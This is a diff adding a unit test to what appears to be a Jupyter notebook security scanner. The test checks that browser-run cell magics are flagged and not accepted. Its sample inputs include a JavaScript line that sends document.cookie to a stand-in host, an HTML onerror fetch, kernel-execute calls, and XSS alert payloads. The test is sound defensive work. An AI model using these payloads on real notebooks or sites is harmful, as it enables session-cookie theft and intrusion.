@@ -197,3 +197,15 @@ def test_writefile_is_the_write_it_amounts_to() -> None:
 
 def test_writefile_of_a_text_file_in_the_workspace_stays_clean() -> None:
     assert not judged(scan(nb("%%writefile notes/params.txt\nlr=0.01\n")))
+
+
+def test_cells_the_browser_runs_are_unknown() -> None:
+    # %%javascript runs in the browser of whoever runs the notebook, with that user's Jupyter session
+    for cell in ("%%javascript\nfetch('https://x.example/?c=' + document.cookie)\n",
+                 "%%html\n<img src=x onerror=\"fetch('https://x.example')\">\n",
+                 "%%js\nJupyter.notebook.kernel.execute('import os')\n", "%%svg\n<svg onload=alert(1)></svg>\n",
+                 "%%markdown\n<img src=x onerror=alert(1)>\n"):
+        report = scan(nb(cell))
+        assert "unanalyzable.notebook" in {f.rule for f in report.findings}, cell
+        assert report.decision.value != "accept", cell
+    assert not read_notebook(nb("%%latex\n$x^2$\n")).unknown
